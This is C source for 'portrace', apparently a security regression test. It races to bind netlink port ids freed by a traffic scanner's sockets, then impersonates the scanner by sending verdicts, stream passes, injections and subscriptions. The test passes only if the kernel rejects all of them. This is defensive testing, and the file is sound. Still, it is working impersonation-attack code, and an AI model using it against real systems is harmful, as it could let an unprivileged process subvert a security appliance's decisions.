// SPDX-License-Identifier: GPL-2.0
/*
 * portrace: the attacker of scanner-identity.sh. An unprivileged process
 * in the appliance's namespace watches the generic netlink sockets there
 * (/proc/net/netlink) and binds each one's port id as soon as it is free,
 * that is, as soon as the socket closes. With each port id it wins (once
 * each: by then its owner is gone) it acts as the scanner that had it: it
 * reads what comes in, and sends an alert, a verdict, a subscription under
 * CAP, an injection and a stream pass.
 *
 *   portrace CAP
 *
 * It runs until SIGTERM or SIGINT, then prints one line:
 *   won N requests N accepted N received N
 * "accepted" counts requests the kernel acknowledged without error,
 * "received" the "sis" messages that reached a socket of this process.
 * Both must stay 0.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <linux/netlink.h>
#include <linux/sis.h>
#include <netlink/genl/ctrl.h>
#include <netlink/genl/genl.h>
#include <netlink/netlink.h>

#define WATCH_MAX	256
#define WATCH_SECS	3	/* a port id is tried this long after last seen */

struct watched {
	unsigned int port;
	time_t seen;		/* last seen in use */
	unsigned int scans;	/* times seen in use */
};

static struct watched watch[WATCH_MAX];
static unsigned int n_watch;
static volatile sig_atomic_t stop;
static int family;
static const char *cap;
static unsigned long won, requests, accepted, received;

static void on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

/* Note the port ids of this namespace's generic netlink sockets. */
static void scan_ports(unsigned int self)
{
	time_t now = time(NULL);
	unsigned int eth, port, i;
	char line[512];
	FILE *f;

	f = fopen("/proc/net/netlink", "re");
	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%*s %u %u", &eth, &port) != 2 ||
		    eth != NETLINK_GENERIC || !port || port == self)
			continue;
		for (i = 0; i < n_watch && watch[i].port != port; i++)
			;
		if (i == n_watch) {
			if (n_watch == WATCH_MAX)
				continue;
			n_watch++;
			watch[i].scans = 0;
		}
		watch[i].port = port;
		watch[i].seen = now;
		watch[i].scans++;
	}
	fclose(f);
	for (i = 0; i < n_watch;) {
		if (now - watch[i].seen > WATCH_SECS)
			watch[i] = watch[--n_watch];
		else
			i++;
	}
}

static int count_msg(struct nl_msg *msg, void *arg)
{
	(void)arg;
	if (nlmsg_hdr(msg)->nlmsg_type == family)
		received++;
	return NL_OK;
}

/* Whatever is queued for us, and whatever comes within @ms. */
static void drain(struct nl_sock *sk, int ms)
{
	struct pollfd p = { .fd = nl_socket_get_fd(sk), .events = POLLIN };

	while (poll(&p, 1, ms) > 0)
		if (nl_recvmsgs_default(sk) < 0)
			break;
}

/* Send @msg and wait for its ack: accepted if the kernel said 0. */
static void request(struct nl_sock *sk, struct nl_msg *msg)
{
	requests++;
	if (nl_send_sync(sk, msg) == 0)
		accepted++;
}

static struct nl_msg *sis_msg(uint8_t cmd)
{
	struct nl_msg *msg = nlmsg_alloc();

	if (!msg || !genlmsg_put(msg, NL_AUTO_PORT, NL_AUTO_SEQ, family, 0,
				 NLM_F_ACK, cmd, SIS_GENL_VERSION)) {
		fprintf(stderr, "portrace: out of memory\n");
		exit(2);
	}
	return msg;
}

/* We hold a port id a socket just gave up: act as its owner. */
static void impersonate(struct nl_sock *sk)
{
	struct sis_verdict v = { .frame = 1, .verdict = SIS_VERDICT_PASS };
	struct sis_stream_pass sp = {
		.conn = 1, .len = SIS_PASS_ALL, .dir = SIS_DIR_OUT,
	};
	struct nlattr *nest;
	struct nl_msg *msg;

	won++;
	drain(sk, 0);

	msg = sis_msg(SIS_CMD_ALERT);
	nest = nla_nest_start(msg, SIS_A_ALERT);
	nla_put_string(msg, SIS_ALERT_A_MSG, "portrace");
	nla_nest_end(msg, nest);
	request(sk, msg);

	msg = sis_msg(SIS_CMD_VERDICT);
	nla_put(msg, SIS_A_VERDICTS, sizeof(v), &v);
	request(sk, msg);

	msg = sis_msg(SIS_CMD_STREAM_PASS);
	nla_put(msg, SIS_A_PASSES, sizeof(sp), &sp);
	request(sk, msg);

	msg = sis_msg(SIS_CMD_INJECT);
	nest = nla_nest_start(msg, SIS_A_INJECT);
	nla_put_u32(msg, SIS_INJECT_A_ID, 1);
	nla_put_u8(msg, SIS_INJECT_A_DIR, SIS_DIR_OUT);
	nla_nest_end(msg, nest);
	request(sk, msg);

	msg = sis_msg(SIS_CMD_SUBSCRIBE);
	nest = nla_nest_start(msg, SIS_A_SUB);
	nla_put_string(msg, SIS_SUB_A_CAP, cap);
	nla_put_u8(msg, SIS_SUB_A_RIGHTS, SIS_RIGHT_READ);
	nla_nest_end(msg, nest);
	request(sk, msg);

	drain(sk, 20);
}

/*
 * Try to bind @port: if it is free, it is ours for a while. Returns
 * whether it was: then its owner is gone, and the port is not tried again.
 */
static bool try_port(unsigned int port)
{
	struct nl_sock *sk = nl_socket_alloc();
	bool won = false;

	if (!sk)
		return false;
	nl_socket_set_local_port(sk, port);
	if (nl_connect(sk, NETLINK_GENERIC) == 0) {
		nl_socket_disable_seq_check(sk);
		nl_socket_modify_cb(sk, NL_CB_VALID, NL_CB_CUSTOM, count_msg,
				    NULL);
		impersonate(sk);
		won = true;
	}
	nl_socket_free(sk);
	return won;
}

int main(int argc, char **argv)
{
	struct sigaction sa = { .sa_handler = on_signal };
	struct nl_sock *ctrl;
	unsigned long n;
	unsigned int i;

	if (argc != 2) {
		fprintf(stderr, "usage: portrace CAP\n");
		return 2;
	}
	cap = argv[1];
	sigaction(SIGTERM, &sa, NULL);
	sigaction(SIGINT, &sa, NULL);

	ctrl = nl_socket_alloc();
	if (!ctrl || genl_connect(ctrl) < 0) {
		fprintf(stderr, "portrace: cannot open a netlink socket\n");
		return 2;
	}
	family = genl_ctrl_resolve(ctrl, SIS_GENL_NAME);
	if (family < 0) {
		fprintf(stderr, "portrace: no \"%s\" family\n", SIS_GENL_NAME);
		return 2;
	}
	printf("ready\n");
	fflush(stdout);

	/*
	 * Every 200 us a try at each port id seen lately, every 20 ms a new
	 * look at the sockets: fast enough to bind a port id within the time
	 * SIS takes to hear of its release, without taking a whole CPU from
	 * the test.
	 */
	for (n = 0; !stop; n++) {
		if (n % 100 == 0)
			scan_ports(nl_socket_get_local_port(ctrl));
		/*
		 * Sockets seen in two looks at least: a scanner's lives
		 * seconds, most others (sisctl's) are gone sooner.
		 */
		for (i = 0; i < n_watch && !stop;) {
			if (watch[i].scans >= 2 && try_port(watch[i].port))
				watch[i] = watch[--n_watch];
			else
				i++;
		}
		usleep(200);
	}
	printf("won %lu requests %lu accepted %lu received %lu\n",
	       won, requests, accepted, received);
	nl_socket_free(ctrl);
	return 0;
}
